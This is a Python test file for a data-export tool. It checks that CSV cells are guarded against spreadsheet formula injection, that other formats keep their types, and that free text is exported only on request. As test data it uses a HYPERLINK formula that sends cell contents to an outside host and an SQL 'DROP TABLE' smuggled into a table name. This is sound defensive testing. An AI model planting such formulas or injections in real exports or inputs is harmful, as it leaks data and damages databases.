"""Exports open in other programs with the same values, and a spreadsheet runs nothing in them."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from data.__main__ import main
from data.export import exportable, guarded
from data.log import Log

EVIL = '=HYPERLINK("http://example.org/?"&A1,"open")'


@pytest.fixture
def filled(temporary_log: Path) -> Path:
    log = Log(temporary_log)
    log.put("sessions", {"session_id": "s", "purpose": "dogfood", "participant": EVIL})
    turn = {
        "turn_id": "t",
        "session_id": "s",
        "submitted_at": "2026-11-22T12:00:00.000+00:00",
        "tier": "fast",
    }
    log.put("turns", {**turn, "status": "ok", "clock_offset_ms": -3.5, "route_reason": "straße, 日本\nzwei"})
    log.put("generations", {"generation_id": "g", "turn_id": "t", "attempt": 1, "cost_usd": 0.25})
    log.put("turn_text", {"turn_id": "t", "prompt": "secret"})
    log.close()
    return temporary_log


def test_csv_has_the_values_and_no_formulas(filled: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--format", "csv"]) == 0
    [row] = csv.DictReader(io.StringIO(capsys.readouterr().out, newline=""))
    assert row["participant"] == f"'{EVIL}"
    assert row["clock_offset_ms"] == "-3.5"  # a number stays one
    assert row["route_reason"] == "straße, 日本\nzwei"
    assert row["cost_usd"] == "0.25"
    assert row["done_ms"] == ""


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1+1", "＝1"])
def test_text_that_a_spreadsheet_would_run_is_guarded(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("value", ["a=b", "2026-11-22", "", -1.5, 7, None])
def test_other_values_stay_as_they_are(value: object) -> None:
    assert guarded(value) is value


def test_json_lines(filled: Path, tmp_path: Path) -> None:
    out = tmp_path / "turns.jsonl"
    assert main(["export", "--format", "jsonl", "--out", str(out)]) == 0
    [row] = [json.loads(line) for line in out.read_text("utf-8").splitlines()]
    assert (row["participant"], row["clock_offset_ms"], row["done_ms"]) == (EVIL, -3.5, None)


def test_parquet_keeps_types_even_of_empty_columns(filled: Path, tmp_path: Path) -> None:
    out = tmp_path / "turns.parquet"
    assert main(["export", "--format", "parquet", "--out", str(out)]) == 0
    table = pq.read_table(out)
    types = {field.name: str(field.type) for field in table.schema}
    assert (types["done_ms"], types["cold"], types["tier"]) == ("double", "int64", "string")
    assert (types["cost_usd"], types["generation_count"]) == ("double", "int64")
    assert table.to_pylist()[0]["clock_offset_ms"] == -3.5


@pytest.mark.parametrize("table", exportable(with_text=True))
def test_every_table_and_view_can_be_exported_in_every_format(
    filled: Path, tmp_path: Path, table: str
) -> None:
    for form in ("csv", "jsonl", "parquet"):
        out = tmp_path / f"{table}.{form}"
        assert main(["export", "--format", form, "--table", table, "--with-text", "--out", str(out)]) == 0
        assert out.exists()


def test_text_is_exported_only_when_it_is_asked_for(filled: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--format", "csv", "--table", "turn_text"]) == 1
    assert "--with-text" in capsys.readouterr().err
    for table in exportable(with_text=False):
        assert main(["export", "--format", "jsonl", "--table", table]) == 0
    assert "secret" not in capsys.readouterr().out
    assert main(["export", "--format", "csv", "--table", "turn_text", "--with-text"]) == 0
    assert "secret" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        (["--format", "csv", "--table", "turns; DROP TABLE turns"], "There is no table"),
        (["--format", "parquet"], "--out"),
        (["--format", "csv", "--out", "/proc/nowhere/a.csv"], "cannot be written"),
    ],
)
def test_what_cannot_be_exported_is_explained(
    filled: Path, capsys: pytest.CaptureFixture[str], arguments: list[str], told: str
) -> None:
    assert main(["export", *arguments]) == 1
    assert told in capsys.readouterr().err
